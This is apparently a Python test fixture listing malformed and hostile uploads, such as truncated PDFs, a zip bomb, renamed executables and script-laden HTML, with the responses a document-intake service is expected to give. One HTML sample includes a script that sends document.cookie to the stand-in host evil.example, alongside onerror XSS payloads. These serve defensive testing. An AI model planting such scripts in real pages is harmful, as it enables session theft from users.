"""A corpus of malformed and hostile documents, generated (nothing binary is checked in).

Each case says what intake must answer (an HTTP status and a message, or None when the
file is accepted because only parsing can tell) and what analysis must raise (a
PermanentError message), or "ok" when the file is fine after all (scripts stripped...).
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass

from tests.documents import files


@dataclass(frozen=True)
class Hostile:
    name: str
    filename: str
    make: Callable[[], bytes]
    intake: tuple[int, str] | None  # (status, message fragment); None → 202 accepted
    analysis: str | None  # PermanentError message fragment; "ok" → analysed fine; None → not applicable


def _truncated_pdf() -> bytes:
    data = files.make_pdf(["A page about lighthouses that will be cut in half."] * 3)
    return data[: len(data) // 2]


def _deep_html(depth: int = 100_000) -> bytes:
    return b"<html><body>" + b"<div>" * depth + b"deep text survives" + b"</div>" * depth + b"</body></html>"


SCRIPT_HTML = (
    b"<html><head><script>fetch('https://evil.example/?c='+document.cookie)</script></head>"
    b"<body><p>Keepers logged every passing ship.</p><script>alert(1)</script>"
    b"<img src=x onerror=alert(2)><p>The log books survive today.</p></body></html>"
)

EMPTY = "The document is empty."
ZIP_BOMB = "it looks like a zip bomb"
DAMAGED_PDF = "The PDF is damaged or truncated and cannot be read"

CORPUS = [
    Hostile("empty", "empty.txt", lambda: b"", (400, EMPTY), "The file is empty."),
    Hostile("whitespace only", "blank.md", lambda: b" \n\n\t \r\n", (400, EMPTY), "The file is empty."),
    Hostile("truncated pdf", "truncated.pdf", _truncated_pdf, None, DAMAGED_PDF),
    Hostile("garbage after pdf header", "garbage.pdf", lambda: b"%PDF-1.7\n" + random.Random(3).randbytes(3000), None, DAMAGED_PDF),
    Hostile("encrypted pdf", "secret.pdf", lambda: files.make_pdf(["Top secret"], password="hunter2"), None,
            "The PDF is encrypted; upload an unencrypted copy."),
    Hostile("pdf without text", "scan.pdf", lambda: files.make_pdf(["", ""]), None, "The PDF contains no extractable text"),
    Hostile("pdf with zero pages", "nothing.pdf", lambda: files.make_pdf([]), None, "The PDF has no pages."),
    Hostile("zip bomb renamed docx", "bomb.docx", files.make_zip_bomb, (415, ZIP_BOMB), ZIP_BOMB),
    Hostile("docx that is not a zip", "letter.docx", lambda: b"Dear keeper, this is plain text.", (415, "but its content is plain text"),
            "but its content is plain text"),
    Hostile("zip that is not a docx", "archive.docx", lambda: files.make_zip({"readme.txt": b"hello"}), (415, "ZIP archive, not a Word document"),
            "ZIP archive, not a Word document"),
    Hostile("docx with malformed xml", "broken.docx",
            lambda: files.make_zip({"[Content_Types].xml": b"<Types", "word/document.xml": b"<w:document><broken"}), None,
            "The DOCX file holds malformed XML"),
    Hostile("binary renamed txt", "binary.txt", lambda: random.Random(7).randbytes(4096), (415, "NUL bytes"), "NUL bytes"),
    Hostile("executable renamed txt", "tool.txt", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 200, (415, "application/x-executable"),
            "application/x-executable"),
    Hostile("png renamed pdf", "photo.pdf", lambda: files.PNG_1PX, (415, "image/png"), "image/png"),
    Hostile("nul bytes in text", "nul.txt", lambda: b"harbour\x00master", (415, "NUL bytes"), "NUL bytes"),
    Hostile("control characters", "control.txt", lambda: bytes(range(1, 9)) * 200, (415, "binary control characters"),
            "binary control characters"),
    Hostile("invalid utf-8", "latin1.txt", lambda: "Café du phare, très fréquenté.".encode("latin-1"), (415, "not valid UTF-8"),
            "not valid UTF-8"),
    Hostile("huge single line without spaces", "line.txt", lambda: b"x" * 50_000, None, "without a space or line break"),
    Hostile("html with scripts", "scripts.html", lambda: SCRIPT_HTML, None, "ok"),
    Hostile("html that is only script", "only-script.html", lambda: b"<html><script>alert(1)</script></html>", None,
            "The document contains no text."),
    Hostile("deeply nested html", "deep.html", _deep_html, None, "ok"),
    Hostile("unsupported extension", "macro.exe", lambda: b"MZ" + b"\x00" * 100, (415, "Unsupported file extension “.exe”"),
            "Unsupported file extension"),
]
